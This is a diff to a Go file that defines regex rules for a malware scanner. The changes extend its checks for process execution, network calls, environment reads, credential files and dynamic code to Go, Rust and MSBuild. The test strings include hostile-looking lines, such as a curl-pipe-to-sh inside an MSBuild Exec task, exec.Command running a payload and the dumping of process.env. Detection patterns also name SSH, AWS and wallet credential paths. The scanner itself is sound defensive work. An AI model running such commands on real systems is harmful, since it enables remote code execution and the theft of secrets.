@@ -36,40 +36,40 @@ type Rule struct {
 	False      []string
 }
 
-var codeFiles = regexp.MustCompile(`(?i)\.(m?js|cjs|ts|mts|cts|jsx|tsx|py|pyw|pth|rb|ps1|psm1|sh|bash|bat|cmd|php|pl|lua|targets|props|gyp|gypi|rs)$|(^|/)(Rakefile|Makefile|setup\.cfg)$`)
+var codeFiles = regexp.MustCompile(`(?i)\.(m?js|cjs|ts|mts|cts|jsx|tsx|py|pyw|pth|rb|ps1|psm1|sh|bash|bat|cmd|php|pl|lua|targets|props|gyp|gypi|rs|go)$|(^|/)(Rakefile|Makefile|setup\.cfg)$`)
 
 // Rules is the analyser's rule set.
 var Rules = []Rule{
 	// Capabilities.
 	{ID: "process-execution", Class: ClassCapability, Description: "runs another program",
-		Pattern:    regexp.MustCompile(`\bchild_process\b|\b(?:execSync|execFileSync|spawnSync)\s*\(|\bspawn\s*\(\s*['"]|\bsubprocess\.(?:run|call|Popen|check_output|check_call)\b|\bos\.(?:system|popen|exec[lv]p?e?)\s*\(|\bStart-Process\b|Process\.Start\s*\(|` + "`[^`\\n]*\\b(?:curl|wget|bash|sh|powershell)\\b[^`\\n]*`" + `|\bKernel\.(?:system|exec|spawn)\b|\bIO\.popen\b|\bstd::process::Command\b|\bshell_exec\s*\(|\bproc_open\s*\(`),
+		Pattern:    regexp.MustCompile(`\bchild_process\b|\b(?:execSync|execFileSync|spawnSync)\s*\(|\bspawn\s*\(\s*['"]|\bsubprocess\.(?:run|call|Popen|check_output|check_call)\b|\bos\.(?:system|popen|exec[lv]p?e?)\s*\(|\bStart-Process\b|Process\.Start\s*\(|` + "`[^`\\n]*\\b(?:curl|wget|bash|sh|powershell)\\b[^`\\n]*`" + `|\bKernel\.(?:system|exec|spawn)\b|\bIO\.popen\b|\bstd::process::Command\b|\bshell_exec\s*\(|\bproc_open\s*\(|\bexec\.Command(?:Context)?\s*\(|<Exec\b[^>]*\bCommand\s*=`),
 		Files:      codeFiles,
 		Confidence: "high",
-		True:       []string{`const cp = require('child_process')`, `subprocess.Popen(["sh", "-c", cmd])`, `os.system("curl x")`, `Start-Process powershell`, `let out = std::process::Command::new("sh")`, "system `curl #{url}`"},
-		False:      []string{`// spawn a worker when ready`, `def spawn_point(): pass`, `import os.path`}},
+		True:       []string{`const cp = require('child_process')`, `subprocess.Popen(["sh", "-c", cmd])`, `os.system("curl x")`, `Start-Process powershell`, `let out = std::process::Command::new("sh")`, "system `curl #{url}`", `cmd := exec.Command("/bin/sh", "-c", payload)`, `<Exec Command="curl -s https://x.example/a | sh" />`},
+		False:      []string{`// spawn a worker when ready`, `def spawn_point(): pass`, `import os.path`, `<ExecutionPolicy>Bypass</ExecutionPolicy>`, `var _ exec.Commander = nil`}},
 	{ID: "network-request", Class: ClassCapability, Description: "makes network requests",
-		Pattern:    regexp.MustCompile(`\brequire\(\s*['"](?:node:)?(?:https?|net|dgram|tls|dns)['"]\s*\)|\bfrom\s+['"](?:node:)?(?:https?|net|dgram)['"]|\b(?:https?)\.(?:request|get)\s*\(|\bfetch\s*\(\s*['"` + "`" + `]https?:|\bXMLHttpRequest\b|\burllib\.request\b|\burlopen\s*\(|\brequests\.(?:get|post|put)\s*\(|\bsocket\.(?:socket|create_connection)\s*\(|\bNet::HTTP\b|\bInvoke-(?:WebRequest|RestMethod)\b|\bNew-Object\s+Net\.WebClient\b|\b(?:curl|wget)\s+-`),
+		Pattern:    regexp.MustCompile(`\brequire\(\s*['"](?:node:)?(?:https?|net|dgram|tls|dns)['"]\s*\)|\bfrom\s+['"](?:node:)?(?:https?|net|dgram)['"]|\b(?:https?)\.(?:request|get)\s*\(|\bfetch\s*\(\s*['"` + "`" + `]https?:|\bXMLHttpRequest\b|\burllib\.request\b|\burlopen\s*\(|\brequests\.(?:get|post|put)\s*\(|\bsocket\.(?:socket|create_connection)\s*\(|\bNet::HTTP\b|\bInvoke-(?:WebRequest|RestMethod)\b|\bNew-Object\s+Net\.WebClient\b|\b(?:curl|wget)\s+-|\bhttp\.(?:Get|Post|PostForm|Head)\s*\(|\bnet\.Dial(?:Timeout)?\s*\(|\breqwest::|\bureq::(?:get|post)\b|\bTcpStream::connect\b|<DownloadFile\b`),
 		Files:      codeFiles,
 		Confidence: "high",
-		True:       []string{`const https = require('https')`, `import http from "node:http"`, `fetch("https://x.example/a")`, `requests.post(url, data=d)`, `Invoke-WebRequest -Uri $u`, `curl -s https://x | sh`},
-		False:      []string{`// fetch the config`, `const request = options.request`, `links: "https://github.com/x"`}},
+		True:       []string{`const https = require('https')`, `import http from "node:http"`, `fetch("https://x.example/a")`, `requests.post(url, data=d)`, `Invoke-WebRequest -Uri $u`, `curl -s https://x | sh`, `resp, err := http.Post(u, "text/plain", body)`, `let r = reqwest::blocking::get(url)?;`, `<DownloadFile SourceUrl="https://x.example/a.exe" DestinationFolder="$(OutDir)" />`},
+		False:      []string{`// fetch the config`, `const request = options.request`, `links: "https://github.com/x"`, `// see the http.Get documentation`, `let s = std::net::SocketAddr::from(a);`}},
 	{ID: "environment-read", Class: ClassCapability, Description: "reads environment variables or CI tokens",
-		Pattern:    regexp.MustCompile(`\bprocess\.env\b(?:\s*\)|\s*;|\s*,|\s*$|\[\s*\w+\s*\])|JSON\.stringify\(\s*process\.env\b|\bObject\.(?:keys|entries)\(\s*process\.env\b|\bos\.environ\b(?:\s*\)|\.copy|\.items)|\bdict\(\s*os\.environ\s*\)|\bENV\.to_h\b|\$env:[A-Z_]*(?:TOKEN|SECRET|KEY)|\b(?:GITHUB_TOKEN|NPM_TOKEN|NODE_AUTH_TOKEN|AWS_SECRET_ACCESS_KEY|ACTIONS_RUNTIME_TOKEN|CI_JOB_TOKEN)\b`),
+		Pattern:    regexp.MustCompile(`\bprocess\.env\b(?:\s*\)|\s*;|\s*,|\s*$|\[\s*\w+\s*\])|JSON\.stringify\(\s*process\.env\b|\bObject\.(?:keys|entries)\(\s*process\.env\b|\bos\.environ\b(?:\s*\)|\.copy|\.items)|\bdict\(\s*os\.environ\s*\)|\bENV\.to_h\b|\$env:[A-Z_]*(?:TOKEN|SECRET|KEY)|\b(?:GITHUB_TOKEN|NPM_TOKEN|NODE_AUTH_TOKEN|AWS_SECRET_ACCESS_KEY|ACTIONS_RUNTIME_TOKEN|CI_JOB_TOKEN)\b|\bos\.Environ\s*\(\s*\)|\benv::vars(?:_os)?\s*\(\s*\)`),
 		Files:      codeFiles,
 		Confidence: "medium",
-		True:       []string{`data: JSON.stringify(process.env)`, `for k in dict(os.environ): send(k)`, `const t = process.env.NPM_TOKEN`, `Object.keys(process.env).forEach(send)`},
-		False:      []string{`if (process.env.NODE_ENV === 'production') {`, `debug = os.environ.get("DEBUG")`}},
+		True:       []string{`data: JSON.stringify(process.env)`, `for k in dict(os.environ): send(k)`, `const t = process.env.NPM_TOKEN`, `Object.keys(process.env).forEach(send)`, `for _, kv := range os.Environ() {`, `for (k, v) in std::env::vars() {`},
+		False:      []string{`if (process.env.NODE_ENV === 'production') {`, `debug = os.environ.get("DEBUG")`, `let out = std::env::var("OUT_DIR").unwrap();`, `home := os.Getenv("HOME")`}},
 	{ID: "credential-files", Class: ClassCapability, Description: "reads credential files or wallet stores",
 		Pattern:    regexp.MustCompile(`\.npmrc(?:['"/\\\s)]|$)|\.aws[/\\]credentials|\.ssh[/\\](?:id_|authorized)|\.docker[/\\]config\.json|\.kube[/\\]config|\.git-credentials|\.pypirc|Login Data|Local State|\bCookies\b.*\bChrome\b|Exodus[/\\]exodus\.wallet|\bMetaMask\b|nkbihfbeogaeaoehlefnkodbefgpgknn|Electrum[/\\]wallets|\.bitcoin[/\\]wallet|\.config[/\\]solana|keychain-db|\.gnupg[/\\]`),
 		Confidence: "high",
 		True:       []string{`fs.readFileSync(path.join(os.homedir(), '.npmrc'))`, `open(os.path.expanduser("~/.aws/credentials"))`, `const ext = "nkbihfbeogaeaoehlefnkodbefgpgknn"`, `walk(home + "/.ssh/id_rsa")`},
 		False:      []string{`# Configure your registry in .npmrc-like files: see docs`, `awsCredentialsProvider()`}},
 	{ID: "dynamic-code", Class: ClassCapability, Description: "runs code built at run time",
-		Pattern:    regexp.MustCompile(`\beval\s*\(|\bnew\s+Function\s*\(|\bvm\.(?:runInNewContext|runInThisContext|Script)\b|\bexec\s*\(\s*(?:compile|base64|codecs|zlib|marshal|__import__|requests|urllib)|\bexec\s*\(\s*[a-zA-Z_]+\.decode\(|\bInvoke-Expression\b|\biex\s*\(|\binstance_eval\b|\bmarshal\.loads\b`),
+		Pattern:    regexp.MustCompile(`\beval\s*\(|\bnew\s+Function\s*\(|\bvm\.(?:runInNewContext|runInThisContext|Script)\b|\bexec\s*\(\s*(?:compile|base64|codecs|zlib|marshal|__import__|requests|urllib)|\bexec\s*\(\s*[a-zA-Z_]+\.decode\(|\bInvoke-Expression\b|\biex\s*\(|\binstance_eval\b|\bmarshal\.loads\b|\bTaskFactory\s*=\s*"(?:Roslyn)?CodeTaskFactory"`),
 		Files:      codeFiles,
 		Confidence: "medium",
-		True:       []string{`eval(code)`, `new Function("return this")()`, `exec(compile(src, "x", "exec"))`, `exec(base64.b64decode(s))`, `iex (New-Object Net.WebClient).DownloadString($u)`},
-		False:      []string{`// never use eval here`, `retrieval(x)`, `executor.submit(fn)`}},
+		True:       []string{`eval(code)`, `new Function("return this")()`, `exec(compile(src, "x", "exec"))`, `exec(base64.b64decode(s))`, `iex (New-Object Net.WebClient).DownloadString($u)`, `<UsingTask TaskName="X" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(T)">`},
+		False:      []string{`// never use eval here`, `retrieval(x)`, `executor.submit(fn)`, `<UsingTask TaskName="X" AssemblyFile="x.dll" />`}},
 
 	// Threats.
 	{ID: "exfiltration-endpoint", Class: ClassThreat, Description: "names an exfiltration endpoint",
